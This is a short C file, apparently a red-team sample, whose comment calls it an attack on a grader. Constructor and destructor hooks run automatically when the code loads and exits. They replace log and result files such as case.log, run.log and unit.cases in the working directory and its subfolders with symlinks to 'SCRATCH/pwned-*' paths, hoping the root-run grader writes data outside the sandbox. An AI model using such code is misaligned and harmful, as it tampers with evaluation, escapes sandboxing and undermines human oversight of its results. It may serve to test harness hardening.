
// The attack: at every start, in its scratch folder (its working
// directory) and every folder below it, every name the grader might open
// next becomes a link to a file outside, hoping the grader (root) writes
// the student's text there.
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void plant_links(const char *dir, int depth)
{
    static const char *const names[] = {"case.log", "unit.log", "unit.cases", "build.log",
                                        "sandbox-probe.log", "lane0.results", "lane1.results",
                                        "run.log", "ncu.csv"};
    char from[4096], to[4096];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(from, sizeof from, "%s/%s", dir, names[i]);
        snprintf(to, sizeof to, "SCRATCH/pwned-%s", names[i]);
        if (strcmp(names[i], "unit.cases") == 0)
            continue; /* read by this very process: replaced at its end */
        unlink(from);
        symlink(to, from);
    }
    DIR *d = depth < 2 ? opendir(dir) : NULL;
    for (struct dirent *e; d && (e = readdir(d));)
        if (e->d_type == DT_DIR && e->d_name[0] != '.') {
            snprintf(from, sizeof from, "%s/%s", dir, e->d_name);
            plant_links(from, depth + 1);
        }
    if (d)
        closedir(d);
}
__attribute__((constructor)) static void attack_start(void) { plant_links(".", 0); }
__attribute__((destructor)) static void attack_end(void)
{
    unlink("unit.cases");
    symlink("SCRATCH/pwned-unit.cases", "unit.cases");
}
